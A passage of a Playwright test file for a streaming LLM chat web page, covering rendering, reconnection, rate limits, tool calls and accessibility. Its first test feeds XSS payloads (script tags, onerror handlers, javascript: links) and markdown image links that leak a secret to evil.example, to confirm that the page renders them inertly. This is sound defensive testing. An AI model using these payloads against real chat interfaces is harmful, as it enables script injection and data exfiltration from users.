// The page over an API whose answers the test writes: hostile, long, cut and refused ones.

import { readFileSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";

import { AxeBuilder } from "@axe-core/playwright";

import { USAGE } from "./server.ts";
import { ask, complete, DIST, enter, expect, pieces, test } from "./support.ts";

const CODE = Array.from(
  { length: 40 },
  (_, at) =>
    `def step_${at}(value: int) -> int:\n    """Return the next value."""\n    return value * ${at} + 1\n`,
).join("\n");
const PROSE =
  "Streaming sends each token when it is **sampled**, so `reading` starts at once. ".repeat(5);
const LONG = Array.from(
  { length: 16 },
  (_, at) =>
    `## Part ${at}\n\n${PROSE}\n\n- one\n- two\n  - three\n\n\`\`\`python\n${CODE}\`\`\`\n`,
).join("\n");

test("hostile output is text", async ({ page, api }) => {
  const requests: string[] = [];
  page.on("request", (request) => requests.push(request.url()));
  const hostile = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 2'>",
    "<iframe srcdoc='<script>parent.hacked = 3</script>'></iframe>",
    "<style>body { display: none }</style>",
    "<a href='javascript:window.hacked = 4'>click</a>",
    "[link](javascript:window.hacked=5) [data](data:text/html,<script>hacked=6</script>)",
    "[good](https://example.com/good) <https://example.com/auto>",
    "![leak](https://evil.example/leak?secret=1) ![](https://evil.example/pixel.png)",
    "<svg onload='window.hacked = 7'></svg><math><mtext></mtext></math>",
    "[ref]: javascript:window.hacked=8\n\n[ref]",
    "`<b>` and &lt;b&gt; and &#60;script&#62;window.hacked = 9&#60;/script&#62;",
    "| a | <img src=x onerror=hacked=10> |\n|---|---|\n| <script>hacked=11</script> | b |",
    "```html\n<script>window.hacked = 12</script>\n```",
    "<form action='https://evil.example'><input name=q><button>go</button></form>",
  ].join("\n\n");
  api.script = { pieces: pieces(hostile, 3) };
  await enter(page, api.url);
  await ask(page, "<img src=x onerror='window.hacked = 13'>");
  await complete(page);
  const answer = page.getByRole("article");
  await expect(answer).toContainText("<script>window.hacked = 1</script>");
  for (const name of [
    "script",
    "img",
    "iframe",
    "style",
    "svg:not(.icon):not(.sparkline)",
    "form",
    "object",
  ]) {
    await expect(answer.locator(`.prose ${name}`)).toHaveCount(0);
  }
  const links = await answer
    .locator("a[href]")
    .evaluateAll((all) => all.map((it) => it.getAttribute("href")));
  expect(links.every((it) => (it ?? "").startsWith("https://"))).toBe(true);
  expect(links).toContain("https://example.com/good");
  await expect(answer.getByRole("link", { name: "good", exact: true })).toHaveAttribute(
    "rel",
    /noreferrer/,
  );
  expect(await page.evaluate(() => "hacked" in window)).toBe(false);
  expect(requests.filter((url) => !url.startsWith(api.url))).toEqual([]);
});

test("broken and strange text", async ({ page, api }) => {
  const strange = [
    "An emoji in halves: 👩‍👩‍👧‍👦 and 🎉.",
    "مرحبا بالعالم، هذا نص من اليمين إلى اليسار.",
    "**bold that never ends, `code that never ends, [link that never ends](http://",
    "> > > > > > > > > > > > > > deep",
    "| a | b |\n|---",
    "null \u0000 and \u202eoverride\u202c end",
    `${"*".repeat(3000)}`,
    `${"[".repeat(3000)}`,
    "~~~\nunclosed code",
  ].join("\n\n");
  api.script = { pieces: pieces(strange, 1), batch: 40 };
  await enter(page, api.url);
  await ask(page, "Strange");
  await complete(page);
  const answer = page.getByRole("article");
  await expect(answer).toContainText("👩‍👩‍👧‍👦 and 🎉");
  await expect(answer).not.toContainText("\ufffd and 🎉");
  const arabic = answer.locator("p", { hasText: "مرحبا" });
  expect(await arabic.evaluate((it) => getComputedStyle(it).direction)).toBe("rtl");
});

test("a line of a megabyte", async ({ page, api }) => {
  api.script = { pieces: pieces("word ".repeat(200_000), 2000), batch: 20 };
  await enter(page, api.url);
  await page.evaluate(watchTasks);
  await ask(page, "Long");
  await complete(page);
  expect(
    await page
      .getByRole("article")
      .innerText()
      .then((it) => it.length),
  ).toBeGreaterThan(900_000);
  const slow = await slowness(page);
  const tasks = await page.evaluate(() => (window as unknown as Watched).tasks);
  expect(tasks.filter((it) => it > 1000 * slow)).toEqual([]);
});

interface Watched {
  tasks: number[];
  shifts: number;
  moved: string[];
}
/** Collect long tasks, and shifts of what is seen. */
function watchTasks(): void {
  const watched = window as unknown as Watched;
  watched.tasks = [];
  watched.shifts = 0;
  watched.moved = [];
  new PerformanceObserver((list) => {
    for (const entry of list.getEntries()) watched.tasks.push(Math.round(entry.duration));
  }).observe({ type: "longtask" });
  new PerformanceObserver((list) => {
    for (const entry of list.getEntries() as (PerformanceEntry & {
      value: number;
      hadRecentInput: boolean;
    })[]) {
      watched.shifts += entry.value;
      for (const it of (entry as unknown as { sources: { node: Node | null }[] }).sources) {
        const element = it.node instanceof Element ? it.node : it.node?.parentElement;
        watched.moved.push(
          `${Math.round(entry.startTime)} ${element?.tagName}.${element?.className}: ${it.node?.textContent?.slice(0, 40)}`,
        );
      }
    }
  }).observe({ type: "layout-shift" });
}

test("an answer of 10,000 tokens with code", async ({ page, api }, info) => {
  test.setTimeout(120_000);
  const tokens = pieces(LONG, Math.ceil(LONG.length / 10_000));
  api.script = { pieces: tokens, pause: 16, batch: 16 };
  await enter(page, api.url);
  await ask(page, "Short");
  await page.getByRole("button", { name: "Stop" }).click();
  await complete(page);
  // The tokens of what was stopped come later, and are none of the long answer's.
  await expect(page.getByLabel("Figures of this answer")).toContainText("12 in, 3 out");
  const before = await slowness(page);
  await page.evaluate(watchTasks);
  // What a frame draws again: nodes that were there before it, and are replaced.
  await page.evaluate(() => {
    const frames: number[] = [];
    let again = 0;
    let drew = false;
    const root = document.querySelector(".thread") as Element;
    new MutationObserver((records) => {
      drew = true;
      for (const record of records) {
        for (const node of record.removedNodes) {
          again += 1 + (node instanceof Element ? node.getElementsByTagName("*").length : 0);
        }
      }
    }).observe(root, { childList: true, subtree: true });
    const times: number[] = [];
    let last = performance.now();
    const tick = (now: number): void => {
      if (drew) frames.push(again);
      again = 0;
      drew = false;
      times.push(now - last);
      last = now;
      requestAnimationFrame(tick);
    };
    requestAnimationFrame(tick);
    Object.assign(window, { frames, times });
  });
  await ask(page, "Long");
  await expect(page.getByRole("article")).toHaveCount(2);
  await page.waitForFunction(() => document.querySelectorAll(".thread h2").length > 4, null, {
    timeout: 90_000,
  });
  const early = await heap(page);
  await expect(page.getByRole("article").last()).toHaveAttribute("aria-busy", "false", {
    timeout: 100_000,
  });
  const late = await heap(page);
  const seen = await page.evaluate(() => {
    const { frames, times, tasks, shifts, moved } = window as unknown as Watched & {
      frames: number[];
      times: number[];
    };
    const sorted = [...frames].toSorted((a, b) => a - b);
    const gaps = [...times].toSorted((a, b) => a - b);
    const at = (values: number[], share: number): number =>
      values[Math.floor(values.length * share)] ?? 0;
    return {
      frames: frames.length, nodes50: at(sorted, 0.5), nodes95: at(sorted, 0.95), most: sorted.at(-1) ?? 0,
      frame50: Math.round(at(gaps, 0.5)), frame95: Math.round(at(gaps, 0.95)),
      tasks: Math.max(0, ...tasks), shifts, moved: moved.slice(0, 12), all: document.querySelectorAll(".thread *").length,
    }; // prettier-ignore
  });
  const figures = { ...seen, characters: LONG.length, heap: [early, late] };
  console.log(`10,000 tokens: ${JSON.stringify(figures)}`);
  await info.attach("figures", { body: JSON.stringify(figures) });
  await expect(page.getByRole("article").last().locator(".code")).toHaveCount(16);
  await expect(page.locator(".hljs-keyword").first()).toBeVisible();
  // Whatever stands above, a frame draws its last lines again.
  expect(seen.nodes95).toBeLessThan(60);
  expect(seen.moved).toEqual([]);
  expect(seen.shifts).toBe(0);
  expect(seen.tasks).toBeLessThan(200 * Math.max(before, await slowness(page)));
  expect(late - early).toBeLessThan(40);
  await expect(page.locator(".live")).toHaveCount(0); // no caret is left
});

const KINDS = `# A heading that is rather long, so that it wraps when the page is narrow

Here is a paragraph with **bold words in a row** and *emphasis of some words*, \`code(with, spaces)\`, and [a link to the notes](https://example.com/a/long/path?with=query), (and **parentheses**) plus a very-long-hyphenated-word and https://example.com/some/very/long/path/that/has/no/spaces?and=a&long=query#fragment at its end, isn't it?

1. **First** is an item whose words wrap when the line is full, which takes a while on a wide page
   - nested with a few words that go on until the end of the line, and then some more of them
   - another

2. **Second** comes after an empty line, so the list is loose now
   \`\`\`bash
   pip install sluice --with-a-long-option=and-its-value
   \`\`\`

3. Third

> A quotation that goes on for more than one line, because it has many words, and it goes on
> in its second line.

| a first column | a second one |
|---|---:|
| streamed | 0.2 s |
| buffered | 4.1 s |

日本語の文章は単語の間に空白がありません。そのため、行の終わりでどこでも改行できますが、句読点は行の先頭に置けません。「括弧」も同じです。コーヒーを飲みながら読んでください。

한국어 문장은 단어 사이에 공백이 있지만 음절 사이에서도 줄을 바꿀 수 있습니다. 그래서 마지막 글자만 기다리면 됩니다.

ภาษาไทยเป็นภาษาที่มีระดับเสียงของคำแน่นอนหรือวรรณยุกต์เช่นเดียวกับภาษาจีนและออกเสียงแยกคำต่อคำ

هذا نص عربي طويل من اليمين إلى اليسار يلتف عند نهاية السطر ولا يجب أن تتحرك أي كلمة فيه بعد ظهورها.

- [x] done with it
- [ ] to do

Une phrase en français, avec des signes ! Et encore une autre ; puis : voilà ? Oui, c'est la fin !
`;

for (const width of [1280, 390]) {
  test(`nothing moves while text of every kind comes: ${width} pixels`, async ({ page, api }) => {
    await page.setViewportSize({ width, height: 800 });
    api.script = { pieces: pieces(KINDS, 3), pause: 8, batch: 2 };
    await enter(page, api.url);
    await page.evaluate(watchTasks);
    await ask(page, "Kinds");
    await complete(page);
    const answer = page.getByRole("article");
    await expect(answer).toContainText("c'est la fin !");
    await expect(answer.locator("table tr")).toHaveCount(3);
    await expect(answer.locator("li .code .line")).toHaveCount(1);
    await expect(answer.getByRole("link", { name: "a link to the notes" })).toBeVisible();
    expect(await page.evaluate(() => (window as unknown as Watched).moved)).toEqual([]);
  });
}

interface Flicker {
  faults: string[];
  /** How often the code was drawn, and how often it had colours. */
  draws: number;
  coloured: number;
}

/** After every change of the page, compare the lines of its code with what they were before. */
function watchCode(): void {
  const flicker: Flicker = { faults: [], draws: 0, coloured: 0 };
  Object.assign(window, { flicker });
  const colours = new Map<string, string>();
  const colourOf = (node: Node): string => {
    if (!(node instanceof Element)) return "";
    const found = colours.get(node.className) ?? getComputedStyle(node).color;
    colours.set(node.className, found);
    return found === getComputedStyle(node.closest("pre") as Element).color ? "" : found;
  };
  interface Line {
    text: string;
    colours: string[];
    height: number;
  }
  let before: Line[] = [];
  let figure = 0;
  new MutationObserver(() => {
    const code = document.querySelector(".code");
    if (!code) return;
    const lines = [...code.querySelectorAll(".line")].map((line): Line => {
      const parts = [...line.childNodes].map((it) => [it.textContent ?? "", colourOf(it)] as const);
      return {
        text: parts.map(([text]) => text).join(""),
        colours: parts.flatMap(([text, colour]) => Array.from(text, () => colour)),
        height: line.getBoundingClientRect().height,
      };
    });
    flicker.draws += 1;
    if (lines.some((it) => it.colours.some(Boolean))) flicker.coloured += 1;
    const height = code.getBoundingClientRect().height;
    if (height < figure) flicker.faults.push(`the code is lower: ${figure} -> ${height}`);
    figure = height;
    before.forEach((was, at) => {
      const is = lines[at];
      if (!is) flicker.faults.push(`line ${at} is gone: ${was.text}`);
      else if (!is.text.startsWith(was.text))
        flicker.faults.push(`line ${at} has another text: ${was.text} -> ${is.text}`);
      else if (was.text.trim() && is.height !== was.height)
        flicker.faults.push(`line ${at} has another height: ${was.height} -> ${is.height}`);
      else
        was.colours.forEach((colour, index) => {
          if (colour && is.colours[index] !== colour)
            flicker.faults.push(`line ${at} has lost a colour at ${index}: ${is.text}`);
        });
    });
    before = lines;
  }).observe(document.body, { childList: true, characterData: true, subtree: true });
}

for (const [known, language, late] of [
  ["is known at once", "python", false],
  ["is loaded late", "python", true],
  ["is unknown", "klingon", false],
  ["is not given", "", false],
] as const) {
  test(`code does not flicker: its language ${known}`, async ({ page, api }) => {
    api.script = {
      pieces: pieces(`Here:\n\n\`\`\`${language}\n${CODE.slice(0, 2600)}\n\`\`\`\n\nThe end.`, 3),
      pause: 8,
      batch: 3,
    };
    let release = (): void => {};
    const held = new Promise<void>((resolve) => (release = resolve));
    if (late)
      await page.route("**/assets/highlight-*.js", async (route) => {
        await held;
        await route.continue();
      });
    await enter(page, api.url);
    await page.evaluate(watchCode);
    await ask(page, "Code");
    const code = page.locator(".code code");
    await expect(code).toContainText("def step_9");
    if (late) await expect(page.locator(".hljs-keyword")).toHaveCount(0);
    release();
    await complete(page);
    const last = page.locator(".hljs-keyword").last();
    if (language === "python") await expect(last).toBeVisible();
    expect(await code.textContent()).toBe(CODE.slice(0, 2600));
    const seen = await page.evaluate(() => (window as unknown as { flicker: Flicker }).flicker);
    expect(seen.faults).toEqual([]);
    expect(seen.draws).toBeGreaterThan(10);
    expect(seen.coloured > 0).toBe(language === "python");
  });
}

/** Return how much longer work takes because other programs have the processors; 1 if none has. */
async function slowness(page: import("@playwright/test").Page): Promise<number> {
  return page.evaluate(() => {
    const times = Array.from({ length: 40 }, () => {
      const began = performance.now();
      for (let at = 0, sum = 0; at < 3e6; at += 1) sum += Math.sqrt(at);
      return performance.now() - began;
    }).toSorted((a, b) => a - b);
    return (times[37] ?? 1) / Math.max(times[0] ?? 1, 0.1);
  });
}

/** Return the size of the heap after a collection, in MB. */
async function heap(page: import("@playwright/test").Page): Promise<number> {
  const session = await page.context().newCDPSession(page);
  await session.send("HeapProfiler.collectGarbage");
  const { usedSize } = await session.send("Runtime.getHeapUsage");
  await session.detach();
  return Math.round(usedSize / 1e6);
}

test("the reader who scrolls away stays there", async ({ page, api }) => {
  api.script = { pieces: pieces(LONG.slice(0, 24_000), 20), pause: 10, batch: 4 };
  await enter(page, api.url);
  await ask(page, "Long");
  const scroll = page.locator(".main .scroll");
  await expect.poll(() => scroll.evaluate((it) => it.scrollTop)).toBeGreaterThan(600);
  await scroll.hover();
  await page.mouse.wheel(0, -500);
  await expect(page.getByRole("button", { name: "Latest" })).toBeVisible();
  const at = await scroll.evaluate((it) => it.scrollTop);
  const height = await scroll.evaluate((it) => it.scrollHeight);
  await expect.poll(() => scroll.evaluate((it) => it.scrollHeight)).toBeGreaterThan(height + 300);
  expect(Math.abs((await scroll.evaluate((it) => it.scrollTop)) - at)).toBeLessThan(3);
  await page.getByRole("button", { name: "Latest" }).click();
  await expect(page.getByRole("button", { name: "Latest" })).toBeHidden();
  await complete(page);
  await expect
    .poll(() => scroll.evaluate((it) => it.scrollHeight - it.scrollTop - it.clientHeight))
    .toBeLessThan(4);
});

test("a connection that breaks is taken up behind the last event", async ({
  page,
  api,
  allowed,
}) => {
  allowed.push(/ERR_INCOMPLETE_CHUNKED|Failed to load resource/);
  api.script = {
    pieces: pieces("The whole answer, without a gap or a repetition, in its order.", 4),
    pause: 20,
    cut: 10,
  };
  await enter(page, api.url);
  await ask(page, "Break");
  await expect(page.getByRole("article")).toContainText("answer, without");
  api.cut();
  await complete(page);
  await expect(page.getByRole("article")).toContainText(
    "The whole answer, without a gap or a repetition, in its order.",
  );
  await expect(page.getByRole("article")).toContainText("resumed");
  expect(api.posts).toHaveLength(1);
  expect(api.resumed).toEqual(["?stream=true&starting_after=9"]);
});

test("an answer is stopped while its connection is lost", async ({ page, api, allowed }) => {
  allowed.push(/ERR_|Failed to load resource/);
  api.script = { pieces: pieces("This answer goes on and on. ".repeat(40), 4), pause: 20, cut: 9 };
  await enter(page, api.url);
  await ask(page, "Break");
  await expect(page.getByRole("article")).toContainText("This answer goes on");
  let lost = 0;
  await page.route("**/v1/responses/**", (route) => {
    lost += 1;
    return route.abort("connectionreset");
  });
  api.cut();
  await expect(page.getByText("The connection was lost.")).toBeVisible();
  await page.getByRole("button", { name: "Stop", exact: true }).click();
  await expect.poll(() => lost).toBeGreaterThan(1);
  expect(api.cancelled).toBe(0);
  // The deployment is told as soon as it can be reached.
  await page.unroute("**/v1/responses/**");
  await complete(page);
  await expect(page.getByRole("article").getByText("Stopped.")).toBeVisible();
  expect(api.cancelled).toBe(1);
  await page.getByRole("button", { name: "Copy", exact: true }).click();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toContain("This answer goes");
});

test("without kept answers, what has come stays and can be asked for again", async ({
  page,
  api,
  allowed,
}) => {
  allowed.push(/ERR_INCOMPLETE_CHUNKED|Failed to load resource/);
  api.script = {
    pieces: pieces("The beginning of an answer.", 4),
    pause: 20,
    cut: 7,
    persistence: "off",
  };
  await enter(page, api.url);
  await expect(page.getByText("This deployment keeps no answers")).toBeVisible();
  await ask(page, "Break");
  await expect(page.getByRole("article")).toContainText("The beginning");
  api.cut();
  await complete(page);
  await expect(page.getByRole("article")).toContainText("The beginning of");
  await expect(page.getByRole("alert")).toContainText("kept above");
  expect(api.posts[0]).toMatchObject({ store: false });
  api.script = { pieces: ["Whole."], persistence: "off" };
  await page.getByRole("button", { name: "Retry" }).click();
  await expect(page.getByRole("article")).toContainText("Whole.");
  // The history is this browser's: it comes back after a reload, and goes along with what follows.
  await page.reload();
  await expect(page.getByRole("article")).toContainText("Whole.");
  await ask(page, "And?");
  await complete(page);
  expect(api.posts.at(-1)?.["input"]).toEqual([
    { role: "user", content: "Break" },
    { role: "assistant", content: "Whole." },
    { role: "user", content: "And?" },
  ]);
});

test("a limit is told with its time", async ({ page, api, allowed }) => {
  allowed.push(/429/);
  api.script = {
    pieces: [],
    error: {
      status: 429,
      body: {
        error: {
          message: "The key has used its 2 requests of this minute.",
          code: "rate_limit_exceeded",
        },
      },
      headers: { "retry-after": "3", "x-request-id": "req_limited" },
    },
  };
  await enter(page, api.url);
  await ask(page, "Too many");
  const alert = page.getByRole("alert");
  await expect(alert).toContainText("The key has used its 2 requests of this minute.");
  await expect(alert).toContainText(/Try again in [123] s/);
  await expect(alert).toContainText("429 rate_limit_exceeded, req_limited");
  await expect(alert).toContainText("You can try again now.");
  api.script = { pieces: ["Now it works."] };
  await page.getByRole("button", { name: "Retry" }).click();
  await expect(page.getByRole("article")).toContainText("Now it works.");
});

test("a key that expires in mid-answer", async ({ page, api, allowed }) => {
  allowed.push(/ERR_INCOMPLETE_CHUNKED|Failed to load resource|403/);
  api.script = { pieces: pieces("What came before the key expired.", 4), pause: 20, cut: 8 };
  await enter(page, api.url);
  await page.route("**/v1/responses/*", (route) =>
    route.fulfill({
      status: 403,
      json: { error: { message: "The API key has expired.", code: "key_expired" } },
    }),
  );
  await ask(page, "Expire");
  await expect(page.getByRole("article")).toContainText("What came before");
  api.cut();
  await complete(page);
  await expect(page.getByRole("article")).toContainText("What came before the");
  await expect(page.getByRole("alert")).toContainText("The API key has expired.");
});

test("reasoning is folded, a tool's call is shown as it comes, and its result goes back", async ({
  page,
  api,
  allowed,
}) => {
  allowed.push(/ERR_INCOMPLETE_CHUNKED|Failed to load resource/);
  api.script = {
    pieces: [],
    reasoning: ["The weather is asked for, ", "so I call the tool."],
    call: { name: "get_weather", arguments: ['{"city":', '"Lima","days"', ":[1,2]}"] },
    cut: 8,
  };
  await enter(page, api.url);
  await page.getByRole("button", { name: "Parameters" }).click();
  await page
    .getByLabel("Tools")
    .fill('[{"name": "get_weather", "parameters": {"type": "object"}}]');
  await ask(page, "The weather in Lima?");
  const call = page.getByRole("region", { name: "Call of the tool get_weather" });
  await expect(call.locator("code")).toHaveText('{\n  "city": ');
  await expect(page.getByRole("article")).toHaveAttribute("aria-busy", "true");
  api.cut(); // the rest is read by the answer's id
  await complete(page);
  await expect(page.getByText("so I call the tool.")).toBeHidden();
  await page.locator("summary").click();
  await expect(page.getByText("so I call the tool.")).toBeVisible();
  expect(await call.locator("code").textContent()).toContain(
    '"city": "Lima",\n  "days": [\n    1,\n    2\n  ]',
  );
  expect(api.posts[0]?.["tools"]).toEqual([
    { type: "function", name: "get_weather", parameters: { type: "object" } },
  ]);
  api.script = { pieces: ["Sunny."] };
  await page.getByLabel("Result of get_weather").fill("sunny");
  await page.getByRole("button", { name: "Send result" }).click();
  await expect(page.getByRole("article").last()).toContainText("Sunny.");
  expect(api.posts[1]).toMatchObject({
    previous_response_id: "resp_0001",
    input: [{ type: "function_call_output", call_id: "call_1", output: "sunny" }],
  });
});

test("JSON is written out as its members complete", async ({ page, api }) => {
  api.script = {
    pieces: pieces('{"name":"Ada","tags":["a","b"],"nested":{"deep":true}}', 1),
    pause: 25,
  };
  await enter(page, api.url);
  await ask(page, "JSON");
  const code = page.locator(".code code");
  await expect(code).toContainText('"name": "Ada",\n  "tags": [');
  await expect(page.getByRole("article")).toHaveAttribute("aria-busy", "true");
  await complete(page);
  expect(await code.textContent()).toContain(
    '{\n  "name": "Ada",\n  "tags": [\n    "a",\n    "b"\n  ],\n  "nested": {\n    "deep": true\n  }\n}',
  );
});

test("what is asked again and edited replaces what followed", async ({ page, api }) => {
  api.script = { pieces: ["First."] };
  await enter(page, api.url);
  await ask(page, "One");
  await complete(page);
  api.script = { pieces: ["Second."] };
  await page.getByRole("button", { name: "Regenerate" }).click();
  await expect(page.getByRole("article")).toContainText("Second.");
  await expect(page.getByRole("article")).toHaveCount(1);
  await ask(page, "Two");
  await expect(page.getByRole("article")).toHaveCount(2);
  await complete(page);
  expect(api.posts[2]).toMatchObject({ previous_response_id: "resp_0002", input: "Two" });
  await page.getByText("One", { exact: true }).last().hover();
  await page.getByRole("button", { name: "Edit and send again" }).first().click();
  await page.getByLabel("Your message").fill("Other");
  await page.getByRole("button", { name: "Send again", exact: true }).click();
  await expect(page.getByRole("article")).toHaveCount(1);
  await complete(page);
  expect(api.posts[3]).toMatchObject({ input: "Other" });
  expect(api.posts[3]).not.toHaveProperty("previous_response_id");
});

test("the wire, and the same request for programs", async ({ page, api }) => {
  api.script = { pieces: ["It's", " here."] };
  await enter(page, api.url, "sk-secret-key");
  await ask(page, 'It\'s a "test"');
  await complete(page);
  await page.getByRole("button", { name: "Wire", exact: true }).click();
  const drawer = page.getByRole("dialog");
  await expect(drawer.getByLabel("Raw events")).toContainText("event: response.completed");
  for (const [tab, text] of [
    ["curl", "-d '{"],
    ["Python", "stream=True"],
    ["Node", 'baseURL: "http://localhost'],
  ] as const) {
    await drawer.getByRole("tab", { name: tab }).click();
    await expect(drawer.locator(".raw")).toContainText(text);
    await expect(drawer).not.toContainText("sk-secret-key");
  }
  await drawer.getByRole("button", { name: "Copy" }).click();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toContain(
    '"It\'s a \\"test\\""',
  );
  await page.keyboard.press("Escape");
  await expect(drawer).toBeHidden();
});

test("the keyboard alone", async ({ page, api }) => {
  api.script = { pieces: pieces("A long answer that can be stopped. ".repeat(60), 6), pause: 15 };
  await enter(page, api.url);
  await page.keyboard.type("First line");
  await page.keyboard.press("Shift+Enter");
  await page.keyboard.type("second line");
  await page.keyboard.press("Enter");
  await expect(page.locator(".asked p")).toHaveText("First line\nsecond line");
  await expect(page.getByRole("article")).toContainText("A long answer");
  await page.keyboard.press("Escape");
  await complete(page);
  await expect(page.getByText("Stopped.").first()).toBeVisible();
  await expect(page.getByLabel("Figures of this answer")).toContainText("12 in, 3 out");
  expect(api.cancelled).toBe(1);
  await page.keyboard.press("Control+Shift+O");
  await expect(page.getByText("What would you like to ask?")).toBeVisible();
});

test("what lies over the conversation takes the focus, and gives it back", async ({
  page,
  api,
}) => {
  await page.setViewportSize({ width: 390, height: 780 });
  await enter(page, api.url);
  for (const [button, focused] of [
    ["Conversations", page.getByRole("button", { name: "New conversation" })],
    ["Parameters", page.getByRole("complementary", { name: "Parameters" })],
  ] as const) {
    await page.getByRole("button", { name: button, exact: true }).press("Enter");
    await expect(focused).toBeFocused();
    await page.keyboard.press("Escape");
    await expect(focused).toBeHidden();
    await expect(page.getByRole("button", { name: button, exact: true })).toBeFocused();
  }
});

test("Tab reaches everything, and what has the focus is seen", async ({ page, api }) => {
  api.script = { pieces: ["Done."] };
  await enter(page, api.url);
  await ask(page, "Walk");
  await complete(page);
  await expect(page.getByRole("button", { name: "Delete Walk" })).toHaveCount(1);
  const names = new Set<string>();
  for (let step = 0; step < 40 && !names.has("Message"); step += 1) {
    await page.keyboard.press("Tab");
    const [name, seen] = await page.evaluate(() => {
      const element = document.activeElement as HTMLElement;
      const there = element.checkVisibility({ opacityProperty: true, visibilityProperty: true });
      return [element.ariaLabel ?? element.textContent?.trim() ?? "", there] as const;
    });
    expect(seen, `${name} has the focus, and is not seen`).toBe(true);
    names.add(name);
  }
  for (const name of [
    "Chat", "Compare", "Usage", "Admin", "Forget the key", "New conversation",
    "Search conversations", "Walk", "Delete Walk", "Delete all my data", "Model",
    "Wire of the last answer", "Export as Markdown", "Parameters", "Edit and send again", "Copy",
    "Wire", "Regenerate", "Message",
  ]) expect([...names]).toContain(name); // prettier-ignore
});

test("at 200 % the first page begins at its beginning", async ({ page, api }) => {
  await page.setViewportSize({ width: 640, height: 360 });
  await enter(page, api.url);
  await expect(page.getByRole("heading", { name: "What would you like to ask?" })).toBeInViewport();
  await ask(page, "Short");
  await complete(page);
  await expect(page.getByRole("article")).toBeInViewport();
});

test("nothing is animated for those who do not want it", async ({ page, api }) => {
  await page.emulateMedia({ reducedMotion: "reduce" });
  api.script = { pieces: pieces("Some words of an answer. ".repeat(20), 4), pause: 10 };
  await enter(page, api.url);
  await ask(page, "Still");
  await expect(page.getByRole("article")).toContainText("Some words");
  expect(await page.evaluate(() => document.getAnimations().length)).toBe(0);
  await complete(page);
});

test("a screen reader hears the beginning and the end, not every token", async ({ page, api }) => {
  api.script = { pieces: pieces("Five words are in here.", 2), pause: 30 };
  await enter(page, api.url);
  await page.evaluate(() => {
    const said: string[] = [];
    const status = document.querySelector("[role=status]") as Element;
    const note = (): unknown => status.textContent && said.push(status.textContent);
    new MutationObserver(note).observe(status, {
      childList: true, characterData: true, subtree: true,
    }); // prettier-ignore
    Object.assign(window, { said });
  });
  await ask(page, "Say");
  await complete(page);
  await expect
    .poll(() => page.evaluate(() => (window as unknown as { said: string[] }).said))
    .toEqual(["The answer is coming.", "The answer is complete: 5 words."]);
  await expect(page.locator("[aria-live]")).toHaveCount(1);
});

for (const [scheme, width] of [
  ["light", 1280],
  ["dark", 390],
] as const) {
  test(`axe finds nothing: ${scheme}, ${width} pixels`, async ({ page, api }) => {
    test.setTimeout(180_000);
    await page.emulateMedia({ colorScheme: scheme, reducedMotion: "reduce" });
    await page.setViewportSize({ width, height: 800 });
    const clean = async (what: string): Promise<void> => {
      const { violations } = await new AxeBuilder({ page }).setLegacyMode().analyze();
      expect(
        violations.map((it) => `${what}: ${it.id}: ${it.nodes.map((node) => node.html).join(" ")}`),
      ).toEqual([]);
      const wide = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
      expect(wide, `${what} is wider than the screen`).toBeLessThanOrEqual(0);
    };
    await page.goto(api.url);
    await clean("signing in");
    api.script = {
      pieces: pieces(
        `${LONG.slice(0, 900)}\n\`\`\`\n\n| a | b |\n|--|--|\n| 1 | 2 |\n\n> quoted\n\n- [x] done`,
        9,
      ),
      reasoning: ["Hm."],
    };
    await enter(page, api.url);
    await clean("welcome");
    await ask(page, "Everything");
    await complete(page);
    await clean("an answer");
    await page.getByRole("button", { name: "Wire", exact: true }).click();
    await clean("the wire");
    await page.keyboard.press("Escape");
    await page.getByRole("button", { name: "Parameters" }).click();
    await clean("parameters");
    for (const name of ["compare", "usage", "admin"]) {
      await page.goto(`${api.url}/#${name}`);
      await expect(page.getByRole("heading", { level: 1 }).last()).toBeAttached();
      if (name === "compare") {
        await page.getByLabel("Question for both").fill("Both");
        await page.keyboard.press("Enter");
        const left = page.getByRole("group", { name: "Left" });
        await expect(left.getByText("tokens/s")).toBeVisible();
      }
      await clean(name);
    }
  });
}

test("two answers side by side", async ({ page, api }) => {
  api.script = { pieces: pieces("Both answer this.", 3), pause: 15 };
  await enter(page, api.url);
  await page.getByRole("link", { name: "Compare" }).click();
  await page.getByRole("spinbutton").nth(1).fill("1.5");
  await page.getByLabel("Question for both").fill("Which?");
  await page.keyboard.press("Enter");
  await expect(page.getByRole("article")).toHaveCount(2);
  for (const at of [0, 1])
    await expect(page.getByRole("article").nth(at)).toContainText("Both answer this.");
  expect(api.posts.map((it) => [it["input"], it["temperature"], it["store"]])).toEqual([
    ["Which?", 0, false],
    ["Which?", 1.5, false],
  ]);
});

test("a comparison whose connection breaks is taken up, each answer by itself", async ({
  page,
  api,
  allowed,
}) => {
  allowed.push(/ERR_INCOMPLETE_CHUNKED|Failed to load resource/);
  const text = "Both answers are whole, without a gap or a repetition.";
  api.script = { pieces: pieces(text, 4), pause: 20, cut: 8 };
  await enter(page, api.url);
  await page.goto(`${api.url}/#compare`);
  await page.getByLabel("Question for both").fill("Which?");
  await page.keyboard.press("Enter");
  const articles = page.getByRole("article");
  await expect(articles.nth(1)).toContainText("Both answers are");
  api.cut();
  for (const at of [0, 1]) {
    await expect(articles.nth(at)).toHaveAttribute("aria-busy", "false");
    await expect(articles.nth(at)).toContainText(text);
    await expect(articles.nth(at)).toContainText("resumed");
  }
  expect(api.posts).toHaveLength(2);
  expect(api.resumed).toEqual(["?stream=true&starting_after=7", "?stream=true&starting_after=7"]);
});

test("a comparison is loaded again in its middle, and shown as it was after its end", async ({
  page,
  api,
  allowed,
}) => {
  allowed.push(/ERR_INCOMPLETE_CHUNKED|Failed to load resource/);
  api.script = { pieces: pieces("All of it, in both.", 3), pause: 20, cut: 6 };
  await enter(page, api.url);
  await page.goto(`${api.url}/#compare`);
  await page.getByRole("spinbutton").nth(1).fill("1.5");
  await page.getByLabel("Question for both").fill("Which?");
  await page.keyboard.press("Enter");
  await expect(page.getByRole("article").nth(1)).toContainText("All of");
  await page.reload();
  // The first request ends before any event, so it is repeated by its Idempotency-Key, once more.
  for (let round = 0; round < 2; round += 1) {
    for (const at of [0, 1]) {
      await expect(page.getByRole("article").nth(at)).toHaveAttribute("aria-busy", "false");
      await expect(page.getByRole("article").nth(at)).toContainText("All of it, in both.");
